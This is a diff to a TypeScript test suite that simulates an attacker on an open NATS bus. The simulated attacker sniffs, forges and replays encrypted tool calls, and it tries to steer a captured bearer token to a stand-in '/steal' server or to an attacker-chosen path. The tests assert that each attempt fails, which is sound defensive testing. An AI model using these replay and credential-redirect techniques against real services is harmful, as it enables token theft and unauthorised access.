@@ -66,6 +66,8 @@ describe('a plain NATS client without the key, on an open bus', () => {
   const attackerInbox = `_INBOX.attacker_${randomBytes(6).toString('hex')}`;
   /** The victim's API, which checks the bearer token; the attacker's server, where a stolen token would land. */
   let victimApi: TestServer;
+  /** The paths the victim's API was asked for, with the token: an attacker's path among them is the token misused. */
+  const victimPaths: string[] = [];
   let evil: TestServer;
   const evilRequests: string[] = [];
   let sessionId: string;
@@ -128,6 +130,7 @@ describe('a plain NATS client without the key, on an open bus', () => {
     const caFile = join(scratch, 'ca.pem');
     writeFileSync(caFile, ca.ca);
     victimApi = await startHttps((req, res) => {
+      victimPaths.push(req.url ?? '');
       res.setHeader('content-type', 'application/json');
       res.end(JSON.stringify({ authorized: req.headers.authorization === `Bearer ${TOKEN}` }));
     });
@@ -189,18 +192,18 @@ describe('a plain NATS client without the key, on an open bus', () => {
     const marker = `victim-private-${randomBytes(8).toString('hex')}`;
     const from = sniffed.length;
     const insiderFrom = insider.seen.length;
-    const echoed = await call('echo', { secret: marker });
+    const echoed = await call('probe__echo', { secret: marker });
     assert.equal(echoed.status, 200, JSON.stringify(echoed.body));
     assert.deepEqual(JSON.parse(echoed.body.result.content[0].text), { secret: marker });
     const fetched = await call('http', { request: { url: `https://localhost:${victimApi.port}/me` } });
     assert.deepEqual(JSON.parse(JSON.parse(fetched.body.result.content[0].text).ok.body.text), { authorized: true });
-    // The insider (holding the key) reads the marker, the result and the token in what crossed: they did cross.
-    const inside = JSON.stringify(insider.seen.slice(insiderFrom).map((m) => m.opened));
-    assert.ok(inside.includes(marker) && inside.includes(TOKEN), 'the calls, their results and the credential crossed the bus');
     await until('the records relayed on the events subject', () => sniffed.slice(from).some((m) => m.subject === `${prefix}.events`));
     assert.ok(sniffed.slice(from).some((m) => m.subject === `${prefix}.calls`), 'the attacker saw the calls go by');
     const seen = sniffedText(from);
     for (const secret of [marker, TOKEN, 'authorized']) assert.ok(!seen.includes(secret), `the attacker read ${secret}`);
+    // The insider (holding the key) reads the marker, the result and the token in what crossed: they did cross.
+    const inside = JSON.stringify(insider.seen.slice(insiderFrom).map((m) => m.opened));
+    assert.ok(inside.includes(marker) && inside.includes(TOKEN), 'the calls, their results and the credential crossed the bus');
   });
 
   it('injects calls that never run: a call in the clear, garbage, and envelopes under another key; nothing is mounted, nothing answers it', async () => {
@@ -223,7 +226,7 @@ describe('a plain NATS client without the key, on an open bus', () => {
     for (const [i, data] of forged.entries()) await publishUntilDropped(data, `${attackerInbox}.${i}`, injected);
     assert.ok(!injected() && (await workersDropped()) >= droppedBefore + forged.length, 'every injected call was dropped by a worker');
     // The victim's calls are answered as ever, after the injections were dropped.
-    const echoed = await call('echo', { after: 'injection' });
+    const echoed = await call('probe__echo', { after: 'injection' });
     assert.deepEqual(JSON.parse(echoed.body.result.content[0].text), { after: 'injection' });
     assert.equal(await workersRan(), ranBefore + 1, 'the workers ran the victim\'s call and nothing else');
     assert.deepEqual(toAttacker.map((m) => m.subject), [], 'no worker answered the attacker');
@@ -256,35 +259,43 @@ describe('a plain NATS client without the key, on an open bus', () => {
     assert.deepEqual(toAttacker.map((m) => m.subject), [], 'no worker answered the attacker');
   });
 
-  it('cannot steer a captured call\'s credential to its own URL, whatever it rewrites', async () => {
+  it('cannot turn a captured call\'s credential on the victim\'s API, nor steer it to its own URL, whatever it rewrites', async () => {
     const from = sniffed.length;
     const origin = `https://localhost:${victimApi.port}`;
     const fetched = await call('http', { request: { url: `${origin}/me` } });
     assert.deepEqual(JSON.parse(JSON.parse(fetched.body.result.content[0].text).ok.body.text), { authorized: true });
     const evilOrigin = `https://localhost:${evil.port}`;
+    const misused = `/attacker-chosen-${randomBytes(4).toString('hex')}`;
+    const worked = (): boolean => victimPaths.includes(misused) || evilRequests.length > 0 || toAttacker.length > 0;
     for (const captured of callMessages(from)) {
       const text = Buffer.from(captured.data).toString('utf8');
-      let rewritten: Uint8Array;
+      const attempts: Uint8Array[] = [];
       if (text.startsWith('{')) {
-        // A call in the clear: the same sealed credentials, with the attacker's policy, CA and destination.
+        // A call in the clear: its sealed credentials kept (they open for its call id), its arguments and policy the attacker's.
         const request = JSON.parse(text);
-        request.arguments = { request: { url: `${evilOrigin}/steal` } };
-        request.egress = { ...request.egress, allow: [`localhost:${evil.port}`], grants: [evilOrigin], privateDestinations: 'allow' };
-        request.egress.sealedCredentials = request.egress.sealedCredentials?.replace(origin, evilOrigin) ?? request.egress.sealedCredentials;
-        rewritten = Buffer.from(JSON.stringify(request));
+        attempts.push(Buffer.from(JSON.stringify({ ...request, arguments: { request: { url: `${origin}${misused}` } } })));
+        attempts.push(Buffer.from(JSON.stringify({
+          ...request, arguments: { request: { url: `${evilOrigin}/steal` } },
+          egress: { ...request.egress, allow: [...request.egress.allow, `localhost:${evil.port}`], grants: [...request.egress.grants, evilOrigin], privateDestinations: 'allow' },
+        })));
       } else {
-        // Sealed: rewrite what is in the clear (a fresh call id and expiry) and keep the sealed body.
+        // Sealed: what is in the clear rewritten (a fresh call id and expiry), the sealed body kept; and the body's bytes altered.
         const bytes = Buffer.from(captured.data);
         const headLength = bytes.readUInt16BE(1);
         const header = JSON.parse(bytes.subarray(3, 3 + headLength).toString('utf8'));
         const head = Buffer.from(JSON.stringify({ ...header, c: randomUUID(), e: Date.now() + 60_000 }).padEnd(headLength, ' '));
-        rewritten = Buffer.concat([bytes.subarray(0, 3), head.subarray(0, headLength), bytes.subarray(3 + headLength)]);
+        attempts.push(Buffer.concat([bytes.subarray(0, 3), head.subarray(0, headLength), bytes.subarray(3 + headLength)]));
+        const flipped = Buffer.from(bytes);
+        flipped[3 + headLength + 40] ^= 0x01;
+        attempts.push(flipped);
       }
-      await publishUntilDropped(rewritten, `${attackerInbox}.steal`, () => evilRequests.length > 0);
+      for (const attempt of attempts) await publishUntilDropped(attempt, `${attackerInbox}.steal`, worked);
     }
-    const again = await call('echo', { after: 'steering' });
+    const again = await call('probe__echo', { after: 'steering' });
     assert.deepEqual(JSON.parse(again.body.result.content[0].text), { after: 'steering' });
+    assert.ok(!victimPaths.includes(misused), 'the victim\'s API was called with its token on the attacker\'s path');
     assert.deepEqual(evilRequests, [], 'the attacker\'s server heard nothing');
+    assert.deepEqual(toAttacker.map((m) => m.subject), [], 'no worker answered the attacker');
   });
 
   it('forges answers into the victim\'s inbox: the victim gets its own call\'s answer, and no forged worker reaches /metrics', async () => {
@@ -348,7 +359,7 @@ describe('a plain NATS client without the key, on an open bus', () => {
       for (const data of forged) attacker.publish(`${prefix}.events`, data);
       await attacker.flush();
       await until('the forged records dropped', async () => text.includes(forgedId) || (await replicaDropped('malformed') + await replicaDropped('unauthentic')) >= droppedBefore + forged.length);
-      const real = await call('echo', { real: true });
+      const real = await call('probe__echo', { real: true });
       await readUntil(real.body.call.id);
       assert.ok(!text.includes(forgedId), 'a forged record reached the live stream');
     } finally {
